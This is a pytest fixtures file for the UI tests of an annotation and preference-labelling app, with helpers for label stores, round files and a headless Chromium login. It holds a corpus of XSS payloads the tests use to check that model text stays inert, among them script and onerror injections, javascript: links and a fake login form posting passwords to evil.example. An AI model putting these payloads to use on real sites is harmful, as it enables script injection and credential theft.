"""Fixtures for the ui tests: a label store with accounts and queued pairs, preference rows, round files,
the markup payloads model text must never turn into live HTML (`markup_payloads`), and for the browser
tests the served app (`served`), Debian's Chromium (`chromium`) and a logged-in page (`login`).

`round_files` writes what the committee's evaluation stage will write (shapes documented in
ui/compare_tab.py): round_1/eval/leaderboard.json, round_1/eval/samples.jsonl, round_1/plots/*.png.
The browser tests need /usr/bin/chromium (`apt-get install -y chromium`) and the `playwright` package
(no browser download); without them they skip, except under CI=true, where they fail. With
AFM_ALIGN_SCREENSHOTS=DIR they also save screenshots there (`screenshot`).
"""
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from html.parser import HTMLParser
from pathlib import Path

import pytest

from afm_align.schema import GRADE_DIMENSIONS

XSS = "It is 5. <script>window.__pwned = 1</script><img src=x onerror=\"window.__pwned = 2\">"
EVIL = "http://evil.example"     # a host no request may go to; "pwn" marks every element a payload would make
OVERLAY = ('<div class="pwn-overlay" style="position:fixed;top:0;left:0;width:100vw;height:100vh;'
           'z-index:99999;background:rgba(200,0,0,.35)">session expired</div>')
LOGIN_FORM = (f'<form class="pwn-form" action="{EVIL}/steal" method="post"><p>Your session expired.</p>'
              '<input name="pwn-password" type="password" placeholder="password">'
              '<button type="submit">log in again</button></form>')
# The three ways issue 17 found past the old regex escaper, as they were reported.
ISSUE_PAYLOADS = {
    "escaped backtick read as a code span": f'Note \\`<img class="pwn-img" src="{EVIL}/beacon.png">`',
    "fenced block followed by a tag": f"```\ncode\n```{OVERLAY}",
    "fence with a backtick in its info string": f"```x`y\n{LOGIN_FORM}\n```",
}
XSS_PAYLOADS = [
    f"```x`y\n{OVERLAY}\n```",       # the info-string route again, carrying the overlay
    '<img src=x onerror="window.__pwned=1;alert(1)">',
    f'<img class="pwn" src="{EVIL}/pixel.gif">',
    "<svg onload=alert(1)><circle r=10></circle></svg>",
    "<svg><script>alert(1)</script></svg>",
    f'<iframe class="pwn" src="{EVIL}/frame"></iframe>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    LOGIN_FORM,
    OVERLAY,
    "<style>body{display:none} .pwn{position:fixed}</style>",
    "[click me](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[entity](&#106;avascript:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    f"![pixel]({EVIL}/md-pixel.png)",
    "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    f'<base href="{EVIL}/">',
    f'<link rel="stylesheet" href="{EVIL}/x.css">',
    "````\n```\n<img src=x onerror=alert(1)>\n```\n````\n<img src=y onerror=alert(2)>",
    "~~~\ncode\n~~~<img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr<script>ipt>alert(1)</script>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    '<img src="x"\nonerror=alert(1)>',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    f'<object data="{EVIL}/x.swf"></object><embed src="{EVIL}/y.swf">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    f"<{EVIL}/autolink> <javascript:alert(1)>",
    "<!-- x --><img src=x onerror=alert(1)><!-- y -->",
    "`a`<img src=x onerror=alert(1)>`b`",
    "<input autofocus onfocus=alert(1)>",
    f'<button formaction="{EVIL}/go">go</button><textarea>t</textarea><select><option>o</select>',
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "[a][r]\n\n[r]: javascript:alert(1)",
    '| a | b |\n|---|---|\n| <span style="position:absolute">x</span> | <img src=x onerror=alert(1)> |',
    "<table style=\"position:absolute;top:0\"><tr><td onclick=alert(1)>x</td></tr></table>",
    '<a href="http://evil.example/login" target="_blank">log in again</a>',
    "<p style=\"background:url(javascript:alert(1))\">css</p>",
    "> quote <img src=x onerror=alert(1)>\n\n- item <svg/onload=alert(1)>\n\n"
    "1. `ok` **bold** <b onmouseover=alert(1)>b</b>",
    "\\`<iframe src=javascript:alert(1)>`",
    "${alert(1)} ${window.__pwned=3} {{constructor.constructor('alert(1)')()}} `${alert(2)}`",   # template syntax
]


def make_pairs(n: int, prefix: str = "p") -> list[dict]:
    """n pairs; response_a is the better one; pair 0's response_b carries HTML that must stay inert."""
    return [{"pair_id": f"{prefix}{i}", "prompt": [{"role": "user", "content": f"What is {i} + 2?"}],
             "response_a": f"The answer is **{i + 2}**.\n\n```python\nprint({i} + 2)\n```",
             "response_b": XSS if i == 0 else f"It is {i + 3}.", "member_a": "m1", "member_b": "m2",
             "domain": "math"} for i in range(n)]


FORBIDDEN = ["<form", "<input", "<img", "<iframe", "<svg", "<style", "<meta", "<base", "<script", "<a ", "<link",
             "<object", "<embed", "<video", "<audio", "<source", "<button", "<textarea", "<select", "<details",
             "<math", "<noscript", "<div", "<span"]


class _Tags(HTMLParser):
    """Every (tag, attributes) of an HTML fragment."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.tags = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def assert_inert_html(out: str, what: str):
    """No tag outside ui.security.ALLOWED_TAGS, no attribute but <ol start>, none of FORBIDDEN."""
    from ui.security import ALLOWED_TAGS

    low = out.lower()
    found = [f for f in FORBIDDEN if f in low]
    assert not found, f"{what}: {found} in {out!r}"
    for tag, attrs in _Tags(out).tags:
        assert tag in ALLOWED_TAGS, f"{what}: <{tag}> in {out!r}"
        for name, value in attrs.items():
            assert (tag, name) == ("ol", "start") and re.fullmatch(r"\d+", value or ""), \
                f"{what}: attribute {name}={value!r} on <{tag}> in {out!r}"   # no style=, on*=, href, src, class
    # javascript: may only remain as visible text, never inside a tag
    assert not re.search(r"<[^>]*javascript:", low), f"{what}: javascript: inside a tag in {out!r}"


@pytest.fixture
def assert_inert():
    return assert_inert_html


@pytest.fixture
def markup_payloads() -> dict[str, str]:
    """Every payload by name: the three of issue 17, then the general corpus."""
    return {**ISSUE_PAYLOADS, **{f"corpus {i}": p for i, p in enumerate(XSS_PAYLOADS)}}


@pytest.fixture
def pairs():
    return make_pairs


@pytest.fixture
def grades():
    """grades(v) -> all four dimensions at v; grades(*four) -> one value per dimension."""
    def build(*values):
        values = values * len(GRADE_DIMENSIONS) if len(values) == 1 else values
        return dict(zip(GRADE_DIMENSIONS, values))
    return build


@pytest.fixture
def preference_rows():
    def build(n: int) -> list[dict]:
        return [{"id": f"pref{i}", "prompt": [{"role": "user", "content": f"Say {i}."}],
                 "chosen": f"{i}.", "rejected": f"Not {i}.", "level": 2,
                 "grades_chosen": dict.fromkeys(GRADE_DIMENSIONS, 2),
                 "grades_rejected": dict.fromkeys(GRADE_DIMENSIONS, 1), "annotator": "synth",
                 "source": "synthetic", "guideline_version": "synth-v1", "domain": "general"}
                for i in range(n)]
    return build


def write_round_files(run) -> None:
    """Round 1's leaderboard, samples (3 prompts x 3 members, plus one only member a answered), a plot."""
    from PIL import Image

    eval_dir = run.round(1) / "eval"
    eval_dir.mkdir(parents=True)
    board = [{"member": m, "round": 1, "recipe": r, "promoted": m != "c", "dev": {"math": acc, "code": acc / 2,
              "mean": 0.75 * acc}, "dev_ci95": [acc - 0.1, acc + 0.1], "elo": elo}
             for m, r, acc, elo in (("a", "sft", 0.5, 1000.0), ("b", "dpo", 0.7, 1040.0), ("c", "mdloo", 0.2, 950.0))]
    (eval_dir / "leaderboard.json").write_text(json.dumps(board))
    test = [{"member": "b", "round": 1, "scored_in": 1, "test": {"math": 0.6, "mean": 0.45}, "test_ci95": [0.3, 0.6]}]
    (eval_dir / "test_leaderboard.json").write_text(json.dumps(test))
    rows = [{"prompt_id": f"q{i}", "prompt": [{"role": "user", "content": f"q{i}?"}], "domain": "math",
             "member": m, "completion": f"{m} says {i} <b>bold</b>", "rm_score": i + 0.5,
             "verifier_score": float(m == "b")} for i in range(3) for m in ("a", "b", "c")]
    rows.append({"prompt_id": "only-a", "prompt": "x", "domain": "code", "member": "a", "completion": "y",
                 "rm_score": None, "verifier_score": None})
    (eval_dir / "samples.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    (run.round(1) / "plots").mkdir()
    Image.new("RGB", (8, 8), "white").save(run.round(1) / "plots" / "elo.png")


@pytest.fixture
def round_writer():
    return write_round_files


@pytest.fixture
def round_files(tmp_path):
    """A run folder holding the round files of `write_round_files`."""
    from afm_align.rundir import RunDir

    run = RunDir(tmp_path / "runs" / "cmp")
    write_round_files(run)
    return run


# ---- the browser tests ----------------------------------------------------------------------------
REPO = Path(__file__).resolve().parents[2]
CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"]


def need_browser():
    missing = []
    if not (Path(CHROMIUM).is_file() or shutil.which("chromium")):
        missing.append("Debian's chromium (apt-get install -y chromium)")
    try:
        import playwright.sync_api  # noqa: F401
    except ImportError:
        missing.append("the playwright package (pip install playwright)")
    if missing:
        reason = "browser test needs " + " and ".join(missing)
        if os.environ.get("CI", "").lower() == "true":
            pytest.fail(reason)
        pytest.skip(reason)


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture
def served(tmp_path):
    """`afm-align annotate` in a subprocess on a free port: annotators ann and ann2, admin boss, five pairs."""
    from afm_align.label_store import LabelStore
    from afm_align.rundir import RunDir

    run = RunDir(tmp_path / "runs" / "browser").ensure()
    store = LabelStore(run.labels)
    store.add_user("ann", "ann-password-1")
    store.add_user("ann2", "ann2-password-1")
    store.add_user("boss", "boss-password-1", admin=True)
    store.add_pairs(make_pairs(5), round=1, k=2)
    port = _free_port()
    env = dict(os.environ, PYTHONPATH=str(REPO), GRADIO_ANALYTICS_ENABLED="False")
    log = open(tmp_path / "app.log", "w")
    proc = subprocess.Popen([sys.executable, "-m", "afm_align.cli", "annotate", "--run", str(run.root),
                             "--port", str(port)], cwd=REPO, env=env, stdout=log, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}/"
    deadline = time.time() + 90
    while True:
        try:
            urllib.request.urlopen(url + "config", timeout=2)
        except urllib.error.HTTPError as err:
            assert err.code == 401, "the app must refuse /config before login"
            break
        except OSError:
            if proc.poll() is not None or time.time() > deadline:
                raise AssertionError(f"the app did not start:\n{(tmp_path / 'app.log').read_text()}")
            time.sleep(0.5)
    yield url, store
    proc.terminate()
    proc.wait(timeout=20)
    log.close()


@pytest.fixture
def chromium():
    """A headless Debian Chromium driven by Playwright."""
    need_browser()
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield browser
        browser.close()


@pytest.fixture
def login(served, chromium):
    """login(user, password) -> a new page (its own session) logged in to the served app, form loaded."""
    from playwright.sync_api import expect

    url, _ = served

    def open_as(user: str, password: str, wait_for: str = "#progress .afm-progress"):
        page = chromium.new_context(viewport={"width": 1400, "height": 1000}).new_page()
        page.goto(url)
        page.get_by_label("username").fill(user)
        page.get_by_label("password").fill(password)
        page.keyboard.press("Enter")
        expect(page.locator(wait_for)).to_have_count(1, timeout=30_000)
        return page
    return open_as


@pytest.fixture
def screenshot():
    """screenshot(page_or_locator, name): saved to $AFM_ALIGN_SCREENSHOTS/name when that is set."""
    folder = os.environ.get("AFM_ALIGN_SCREENSHOTS")

    def save(target, name: str):
        if folder:
            Path(folder).mkdir(parents=True, exist_ok=True)
            kwargs = {"full_page": True} if hasattr(target, "goto") else {}
            target.screenshot(path=str(Path(folder) / name), **kwargs)
    return save
